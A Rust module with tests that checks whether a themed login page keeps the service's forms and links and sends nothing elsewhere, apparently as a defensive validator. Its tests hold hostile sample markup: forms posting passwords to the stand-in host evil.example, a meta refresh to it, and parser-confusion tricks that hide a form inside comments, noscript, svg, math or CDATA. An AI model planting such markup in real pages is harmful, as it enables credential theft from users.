//! The forms and links of a page that a theme has drawn, held against those of the service: all are there, and none
//! leads anywhere else.

use std::collections::BTreeSet;

use super::finding::Finding;
use super::markup::{NO_SCRIPT, Tag, tags};

/// A form, as far as the service depends on it.
#[derive(Debug, Default, PartialEq, Eq)]
struct Form<'a> {
    action: &'a str,
    /// Whether it is sent as the service reads forms: by POST, and encoded as a query is.
    is_readable: bool,
    /// Whether it has a button that sends it.
    is_sendable: bool,
    /// Names and values that are sent unseen.
    hidden: BTreeSet<(&'a str, &'a str)>,
    /// Names of the fields that are filled in.
    fields: BTreeSet<&'a str>,
    /// Names and values of the buttons that decide something.
    buttons: BTreeSet<(&'a str, &'a str)>,
}

/// The forms of a page, with those of their parts that are sent. A part that says which form it belongs to is none.
fn forms<'a>(tags: &'a [Tag<'_>]) -> Vec<Form<'a>> {
    let mut forms: Vec<Form<'a>> = Vec::new();
    let mut is_open = false;
    let (mut templates, mut fieldsets) = (0_usize, Vec::new());
    for tag in tags {
        let text = |name: &str| tag.attribute(name).unwrap_or_default();
        let has = |name: &str| tag.attribute(name).is_some();
        match (tag.name.as_ref(), tag.is_end) {
            ("form", true) => is_open = false,
            ("form", false) => {
                is_open = true;
                let is_query =
                    |encoding: &str| encoding.eq_ignore_ascii_case("application/x-www-form-urlencoded");
                forms.push(Form {
                    action: text("action"),
                    is_readable: text("method").eq_ignore_ascii_case("post")
                        && tag.attribute("enctype").is_none_or(is_query),
                    ..Form::default()
                });
            }
            ("template", true) => templates = templates.saturating_sub(1),
            ("template", false) => templates = templates.saturating_add(1),
            ("fieldset", true) => drop(fieldsets.pop()),
            ("fieldset", false) => fieldsets.push(has("disabled")),
            ("input" | "button" | "select" | "textarea", false)
                if is_open
                    && templates == 0
                    && !fieldsets.contains(&true)
                    && !has("disabled")
                    && !has("form") =>
            {
                if let Some(form) = forms.last_mut() {
                    form.add(tag, text("name"), text("value"));
                }
            }
            _ => {}
        }
    }
    forms
}

impl<'a> Form<'a> {
    fn add(&mut self, tag: &Tag<'_>, name: &'a str, value: &'a str) {
        let kind = tag.attribute("type").unwrap_or_default().to_ascii_lowercase();
        let is_named = !name.is_empty();
        match (tag.name.as_ref(), kind.as_str()) {
            ("button" | "input", "button" | "reset") => {}
            ("input", "image") => self.is_sendable = true,
            ("button", _) | ("input", "submit") => {
                self.is_sendable = true;
                if is_named {
                    self.buttons.insert((name, value));
                }
            }
            ("input", "hidden") if is_named => drop(self.hidden.insert((name, value))),
            _ if is_named => drop(self.fields.insert(name)),
            _ => {}
        }
    }

    /// Whether it sends what another one does, and perhaps more.
    fn does_for(&self, other: &Self) -> bool {
        self.action == other.action
            && self.is_readable == other.is_readable
            && self.is_sendable >= other.is_sendable
            && other.hidden.is_subset(&self.hidden)
            && other.fields.is_subset(&self.fields)
            && other.buttons.is_subset(&self.buttons)
    }

    /// What it is made of, for who has to write it.
    fn parts(&self) -> String {
        let hidden = self
            .hidden
            .iter()
            .map(|(name, _)| format!("the hidden field {name}"));
        let fields = self.fields.iter().map(|name| format!("the field {name}"));
        let buttons = self.buttons.iter();
        let buttons = buttons.map(|(name, value)| format!("the button {name}={value}"));
        let any = self
            .buttons
            .is_empty()
            .then(|| "a button that sends it".to_owned());
        let parts: Vec<String> = hidden.chain(fields).chain(buttons).chain(any).collect();
        parts.join(", ")
    }
}

/// Where links lead within the service.
fn ways<'a>(tags: &'a [Tag<'_>]) -> BTreeSet<&'a str> {
    let links = tags.iter().filter(|tag| tag.is("a"));
    links
        .filter_map(|tag| tag.attribute("href"))
        .filter(|href| href.starts_with('/'))
        .collect()
}

/// What is missing from the forms and links of `page` for those of `wanted` to work, and where else it leads.
pub fn compare(place: &str, page: &str, wanted: &str) -> Vec<Finding> {
    let wanted = tags(wanted, false);
    let found = tags(page, false);
    let mut messages = differences(&found, &wanted);
    if found.iter().any(|tag| tag.is(NO_SCRIPT)) {
        messages.extend(differences(&tags(page, true), &wanted));
    }
    if page.contains("<![CDATA[") {
        messages.push("<![CDATA[: where it ends depends on what it stands in".to_owned());
    }
    let findings = messages.into_iter();
    findings.map(|message| Finding::refused(place, message)).collect()
}

fn differences(page: &[Tag<'_>], wanted: &[Tag<'_>]) -> Vec<String> {
    let (found, wanted_forms) = (forms(page), forms(wanted));
    let mut messages = Vec::new();
    let mut refuse = |message: String| messages.push(message);
    for form in &found {
        let mut same = wanted_forms
            .iter()
            .filter(|wanted| wanted.action == form.action)
            .peekable();
        if same.peek().is_none() {
            refuse(format!(
                "a form leads to {:?}: forms of this page lead to {{{{ action }}}} and nowhere else",
                form.action
            ));
        } else if same.all(|wanted| wanted.is_readable != form.is_readable) {
            refuse(
                "a form is sent in another way: write it with method=\"post\" and without enctype".to_owned(),
            );
        }
    }
    for tag in page {
        if tag.raw.contains('<') && tag.name != NO_SCRIPT {
            refuse(format!(
                "the content of {} holds a <, from which some browsers may read a form",
                tag.name
            ));
        }
        for other_way in ["formaction", "formmethod", "formenctype"] {
            if tag.attribute(other_way).is_some() {
                refuse(format!(
                    "{other_way}: forms of this page lead to {{{{ action }}}}, as they say themselves, and nowhere else"
                ));
            }
        }
        let header = tag.attribute("http-equiv").unwrap_or_default();
        if tag.is("meta") && header.eq_ignore_ascii_case("refresh") {
            refuse("meta refresh would lead people away from the page".to_owned());
        }
    }
    for href in ways(wanted).difference(&ways(page)) {
        refuse(format!(
            "a link to {href:?} is missing: print its slot, or write it with that href"
        ));
    }
    for form in &wanted_forms {
        if !found.iter().any(|other| other.does_for(form)) {
            refuse(format!(
                "a form is missing or incomplete: print its slot, or write a form with method=\"post\", \
                 action=\"{{{{ action }}}}\" and {}",
                form.parts()
            ));
        }
    }
    messages
}

#[cfg(test)]
mod tests {
    use super::*;

    const WANTED: &str = r#"<form method="post" action="/login"><input type="hidden" name="csrf" value="b1"><input
        name="username"><button name="decision" value="allow">Go</button></form>"#;

    #[test]
    fn a_form_may_be_written_by_hand_in_any_style() {
        let by_hand = "<FORM class=x action=&#x2f;login METHOD='POST'><p><!-- <form action=/evil> -->\
            <input value=\"b1\" type=HIDDEN name='csrf'><textarea name=username></textarea>\
            <input type=submit name=decision value=allow></FORM>";
        assert_eq!(compare("login.html", by_hand, WANTED), []);
        assert_eq!(compare("login.html", WANTED, WANTED), []);
    }

    #[test]
    fn a_form_without_what_the_service_needs_is_refused() {
        for broken in [
            "",
            r#"<form method="post" action="/login"><input name="username"><button name="decision" value="allow"></form>"#,
            r#"<form method="post" action="/login"></form><input type="hidden" name="csrf" value="b1">"#,
        ] {
            let findings = compare("login.html", broken, WANTED);
            assert_eq!(findings.len(), 1, "{broken}");
            assert!(
                findings[0]
                    .message
                    .contains("the hidden field csrf, the field username")
            );
        }
    }

    #[test]
    fn a_form_that_cannot_be_sent_is_refused() {
        let plain = WANTED.replace(" name=\"decision\" value=\"allow\"", "");
        assert_eq!(compare("login.html", &plain, &plain), []);
        let image = plain.replace("<button>Go</button>", "<input type=image alt=Go>");
        assert_eq!(compare("login.html", &image, &plain), []);
        for wanted in [WANTED, &plain] {
            let around = |element: &str, end: &str| format!("<{element}>{wanted}</{end}>");
            for broken in [
                wanted.replace("<button", "<b").replace("</button", "</b"),
                wanted.replace("<button", "<button type=button"),
                wanted.replace("<button", "<button type=reset"),
                wanted.replace("<button", "<button disabled"),
                wanted.replace("<button", "<button form=other"),
                wanted.replace("<button", "<button formmethod=get"),
                wanted.replace("<button", "<button formenctype=text/plain"),
                wanted.replace("name=\"username\"", "name=username disabled"),
                wanted.replace("name=\"username\"", "name=username form=other"),
                wanted.replace("method=\"post\"", "method=get"),
                wanted.replace("method=\"post\"", "method=post enctype=multipart/form-data"),
                format!("{wanted}<form action=/login><input name=password></form>"),
                around("template", "template"),
                around("noscript", "noscript"),
                around("fieldset disabled", "fieldset"),
            ] {
                assert!(!compare("login.html", &broken, wanted).is_empty(), "{broken}");
            }
            for sound in [
                around("fieldset", "fieldset"),
                format!("<fieldset disabled></fieldset><template></template>{wanted}"),
                wanted.replace(
                    "method=\"post\"",
                    "method=post enctype=application/x-www-form-urlencoded",
                ),
                format!("{wanted}<noscript><p>Scripts are <b>off</b>.</noscript>"),
            ] {
                assert_eq!(compare("login.html", &sound, wanted), [], "{sound}");
            }
        }
    }

    #[test]
    fn no_way_onward_is_missing() {
        let wanted =
            format!("{WANTED}<a href=\"/federation/x/start?t=1&amp;u=2\">x</a><a href=\"#top\">y</a>");
        assert_eq!(compare("login.html", &wanted, &wanted), []);
        let findings = compare("login.html", WANTED, &wanted);
        assert_eq!(findings.len(), 1);
        assert!(findings[0].message.contains("/federation/x/start?t=1&u=2"));
    }

    #[test]
    fn no_form_leads_elsewhere() {
        let evil = format!("{WANTED}<form action=\"https://evil.example\"><input name=password></form>");
        let findings = compare("login.html", &evil, WANTED);
        assert!(findings[0].message.contains("https://evil.example"));
        for hidden in [
            "<!-->FORM<!-- -->",
            "<!--->FORM<!-- -->",
            "<!-- x --!>FORM<!-- -->",
            "<svg><style><div>FORM</style></svg>",
            "<math><title>FORM</title></math>",
            "<title></titles><!-- </title>FORM<!-- -->",
            "<xmp><!-- </xmp>FORM<!-- -->",
            "<iframe><a title=\"</iframe>FORM\"></a>",
            "<noscript><!-- </noscript>FORM<!-- --></noscript>",
            "<noscript><textarea></noscript><!-- </textarea>FORM<!-- -->",
            "<svg><![CDATA[ <!-- ]]>FORM<!-- --></svg>",
            "<template shadowrootmode=open>FORM</template>",
        ] {
            let evil = hidden.replace(
                "FORM",
                "<form method=post action=https://evil.example><input name=password>",
            );
            let findings = compare("login.html", &format!("{evil}{WANTED}"), WANTED);
            let is_seen =
                |finding: &Finding| finding.message.contains("evil") || finding.message.contains('<');
            assert!(findings.iter().any(is_seen), "{hidden}: {findings:?}");
        }
        let harmless = format!("<!-- <form action=x> --><title>a</title><style>a{{}}</style>{WANTED}");
        assert!(compare("login.html", &harmless, WANTED).is_empty());
        let evil = WANTED.replace("<button", "<button formaction=https://evil.example");
        assert!(
            compare("login.html", &evil, WANTED)[0]
                .message
                .starts_with("formaction")
        );
    }

    #[test]
    fn a_page_that_leads_people_away_by_itself_is_not_used() {
        let page = "<meta http-equiv=\"Refresh\" content=\"0; url=https://evil.example\">";
        let found = compare("login.html", page, "");
        assert_eq!(found.len(), 1, "{found:?}");
    }

    #[test]
    fn no_text_makes_the_comparison_fail() {
        for text in [
            "<",
            "<form",
            "<input name=",
            "</form></fieldset></template>",
            "<noscript>",
            "</é>",
            "<title></é",
        ] {
            compare("x", text, WANTED);
            compare("x", WANTED, text);
        }
    }
}
